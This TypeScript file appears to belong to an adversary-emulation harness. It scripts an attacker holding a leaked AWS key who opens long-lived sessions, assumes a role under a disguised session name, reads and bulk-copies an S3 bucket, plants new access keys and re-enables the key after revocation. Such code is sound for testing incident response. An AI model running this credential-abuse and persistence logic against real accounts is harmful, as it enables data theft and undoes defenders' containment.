import { again, firstOpen } from "../adversary/again.ts";
import { BucketReader, grabEverything } from "../adversary/bucket-reader.ts";
import { once } from "../adversary/once.ts";
import { credentialsFrom, refusalOf, type Aws, type Credentials } from "../kit/aws.ts";
import { roleArn } from "../kit/federation.ts";
import type { Behaviour, Stage } from "../kit/stage.ts";
import type { Facts } from "./facts.ts";

/** A script that harvests keys from public repositories, and the person who then works with the sessions. */
export const HARVESTER = { ip: "203.0.113.84", userAgent: "Boto3/1.34.69 Python/3.11.8" };
export const LAIR = { ip: "198.51.100.213", userAgent: "aws-cli/2.15.0 Python/3.11.6 Linux/6.5.0-kali" };

/** The longest that GetSessionToken gives: 36 hours. */
const LONGEST_SECONDS = 129_600;
/** What tells the thief's role sessions from the job's: it is part of `aws:userid`. */
export const ROLE_SESSION_NAME = "s3-sync";

/** All that the thief holds at a moment. */
export interface Loot {
  /** The leaked key, and those that were published after it, the newest first. */
  keys: Credentials[];
  userSession: Credentials;
  roleSession: Credentials;
  /** The key of the thief's own user, and the others that it planted. */
  own: Credentials;
  planted: Credentials[];
}

export async function openUserSession(stage: Stage, keys: readonly Credentials[]): Promise<Credentials> {
  return firstOpen(
    keys.map((key) => async () => {
      const sts = stage.intruder(key, HARVESTER).sts;
      return credentialsFrom((await sts.getSessionToken({ DurationSeconds: LONGEST_SECONDS })).Credentials);
    }),
  );
}

export async function openRoleSession(
  stage: Stage,
  roleName: string,
  with_: readonly Credentials[],
): Promise<Credentials> {
  return firstOpen(
    with_.map((credentials) => async () => {
      const issued = await stage.intruder(credentials, HARVESTER).sts.assumeRole({
        RoleArn: roleArn(stage, roleName),
        RoleSessionName: ROLE_SESSION_NAME,
      });
      return credentialsFrom(issued.Credentials);
    }),
  );
}

/**
 * Uses everything that the key gave away, and whatever is refused is got again by what is not: sessions by the key,
 * the key by the planted user.
 */
export function thief(facts: Facts, loot: Loot): Behaviour[] {
  const { dataBucket, keyId, roleName } = facts;
  const reader = new BucketReader(dataBucket);
  let keyWorks = true;
  return [
    again("leaked-key", 20, `DescribeSecurityGroups with ${keyId}`, async (stage) => {
      keyWorks = false;
      const what = await firstOpen(
        loot.keys.map((key) => async () => {
          await stage.intruder(key, HARVESTER).ec2.describeSecurityGroups({ MaxResults: 5 });
          return `DescribeSecurityGroups with ${key.accessKeyId}`;
        }),
      );
      keyWorks = true;
      return { what };
    }),
    again("user-session", 20, "DescribeLaunchTemplates with a session of the user", async (stage) => {
      const use = async (): Promise<void> =>
        void (await stage.intruder(loot.userSession, LAIR).ec2.describeLaunchTemplates({ MaxResults: 5 }));
      await firstOpen([
        use,
        async () => {
          loot.userSession = await openUserSession(stage, loot.keys);
          await use();
        },
      ]);
      return { what: `DescribeLaunchTemplates with the user's session ${loot.userSession.accessKeyId}` };
    }),
    again("role-session", 20, `Read of s3://${dataBucket} with a session of ${roleName}`, (stage) =>
      firstOpen([
        () => reader.readOne(stage.intruder(loot.roleSession, LAIR), stage),
        async () => {
          loot.roleSession = await openRoleSession(stage, roleName, [...loot.keys, loot.userSession]);
          return reader.readOne(stage.intruder(loot.roleSession, LAIR), stage);
        },
      ]),
    ),
    again("planted-key", 30, `Read of s3://${dataBucket} with planted keys`, async (stage) => {
      if (!keyWorks) await bringKeyBack(stage.intruder(loot.own, HARVESTER), facts);
      return firstOpen(
        loot.planted.map((key) => () => reader.readOne(stage.intruder(key, HARVESTER), stage)),
      );
    }),
    grabEverything(240, dataBucket, LAIR, () => loot.roleSession),
    once(
      "another-key",
      420,
      async (stage) => {
        const made = await stage
          .intruder(loot.own, HARVESTER)
          .iam.createAccessKey({ UserName: facts.serverUser });
        loot.planted.push(credentialsFrom(made.AccessKey));
        return { gotThrough: true, what: `Another key, of ${facts.serverUser}` };
      },
      `Another key, of ${facts.serverUser}`,
    ),
  ];
}

/** Makes the leaked key active again, if the thief's own user still may. */
async function bringKeyBack(aws: Aws, { userName, keyId }: Facts): Promise<void> {
  try {
    await aws.iam.updateAccessKey({ UserName: userName, AccessKeyId: keyId, Status: "Active" });
  } catch (error) {
    if (refusalOf(error) === undefined) throw error;
  }
}
